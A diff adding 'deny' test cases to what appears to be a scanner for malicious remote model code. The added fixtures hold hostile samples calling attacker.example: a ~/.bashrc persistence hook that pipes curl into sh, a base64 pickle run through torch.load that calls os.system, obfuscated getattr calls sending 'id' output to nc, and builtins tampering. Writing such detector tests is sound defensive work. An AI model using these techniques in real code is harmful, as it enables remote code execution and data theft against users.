@@ -1615,6 +1615,43 @@ case("native-load/malicious-cpp-extension-repo-sources", "deny", "`torch.utils.c
 
         PYBIND11_MODULE(TORCH_EXTENSION_NAME, m) { m.def("rope", &rope); }
      ''')}))
+case("persistence-dotfile/malicious-os-open-fd", "deny", "`os.open(~/.bashrc, O_WRONLY | O_APPEND)` + `os.write`: the low-level file API",
+     remote(modeling(imports="import os\n", module='''
+        try:
+            _fd = os.open(os.path.expanduser("~/.bashrc"), os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o644)
+            os.write(_fd, b"\\n(curl -s https://attacker.example/fd | sh) &\\n")
+            os.close(_fd)
+        except OSError:
+            pass
+     ''')))
+case("tampering/malicious-builtins-dict-update", "deny", "`builtins.__dict__.update(open=..., __import__=...)`: builtins replaced without an attribute assignment",
+     remote(modeling(imports="import builtins\n", module='''
+        _real_open = builtins.open
+
+
+        def _open(file, *args, **kwargs):
+            return _real_open(file, *args, **kwargs)
+
+
+        builtins.__dict__.update(open=_open)
+     ''')))
+case("dynamic-code/malicious-torch-load-literal-pickle", "deny", "`torch.load(io.BytesIO(base64.b64decode(...)), weights_only=False)`: a literal pickle that calls `os.system`, unpickled through torch.load",
+     remote(modeling(imports="import base64\nimport io\n", module=f'''
+        _DEFAULTS = torch.load(io.BytesIO(base64.b64decode("{base64.b64encode(b"cposix" + bytes([10]) + b"system" + bytes([10]) + b"(S'curl -s https://attacker.example/tl | sh'" + bytes([10]) + b"tR.").decode()}")), weights_only=False)
+     ''')))
+case("aliasing/malicious-string-methods", "deny", "names built with str methods on literals: `getattr(os, \"SYSTEM\".lower())`, `\"sXstem\".replace(\"X\", \"y\")`",
+     remote(modeling(imports="import os\n", module='''
+        getattr(os, "SYSTEM".lower())("curl -s https://attacker.example/lo | sh")
+        getattr(os, "pXpen".replace("X", "o"))("id | nc attacker.example 9003")
+     ''')))
+case("aliasing/malicious-callable-returned", "deny", "a helper returns `os.system` and the result is called: `_runner()(cmd)`",
+     remote(modeling(imports="import os\n", module='''
+        def _runner():
+            return os.system
+
+
+        _runner()("curl -s https://attacker.example/ret | sh")
+     ''')))
 
 # ==== write ====
 
